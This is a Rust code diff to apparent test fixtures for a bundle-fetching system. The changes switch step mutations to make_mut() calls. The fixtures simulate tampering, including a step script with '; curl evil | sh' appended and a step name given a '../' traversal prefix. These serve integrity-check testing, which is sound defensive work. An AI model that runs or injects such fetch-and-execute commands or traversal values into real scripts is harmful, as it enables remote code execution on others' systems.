@@ -280,7 +280,7 @@ impl World {
                     0 => Err(Cause::msg("connection refused")),
                     1 => {
                         let mut bad = self.desired.clone();
-                        if let Some(s) = bad.steps.first_mut() {
+                        if let Some(s) = bad.steps.make_mut().first_mut() {
                             s.script.push_str("; tampered");
                         }
                         Ok(bad)
@@ -658,33 +658,33 @@ fn fetched(base: &DesiredBundle, kind: &Fetched) -> Result<DesiredBundle, Cause>
     match kind {
         Fetched::Same => {}
         Fetched::Tampered => {
-            if let Some(s) = b.steps.last_mut() {
+            if let Some(s) = b.steps.make_mut().last_mut() {
                 s.script.push_str("; curl evil | sh");
             }
         }
         Fetched::KeyChanged => {
-            if let Some(s) = b.steps.first_mut() {
+            if let Some(s) = b.steps.make_mut().first_mut() {
                 s.disruption_key = Some(format!("{:?}-changed", s.disruption_key));
             }
         }
-        Fetched::Reversed => b.steps.reverse(),
+        Fetched::Reversed => b.steps.make_mut().reverse(),
         Fetched::ReversedResigned => {
-            b.steps.reverse();
+            b.steps.make_mut().reverse();
             resign(&mut b);
         }
         Fetched::SortedUnderReversedChecksum => {
-            let mut reversed = b.steps.clone();
+            let mut reversed = b.steps.to_vec();
             reversed.reverse();
             b.checksum = configuration_checksum(&reversed);
         }
         Fetched::Duplicated => {
             if let Some(s) = b.steps.first().cloned() {
-                b.steps.push(s);
+                b.steps.make_mut().push(s);
             }
             resign(&mut b);
         }
         Fetched::BadName => {
-            if let Some(s) = b.steps.first_mut() {
+            if let Some(s) = b.steps.make_mut().first_mut() {
                 s.name = format!("../{}", s.name);
             }
             resign(&mut b);
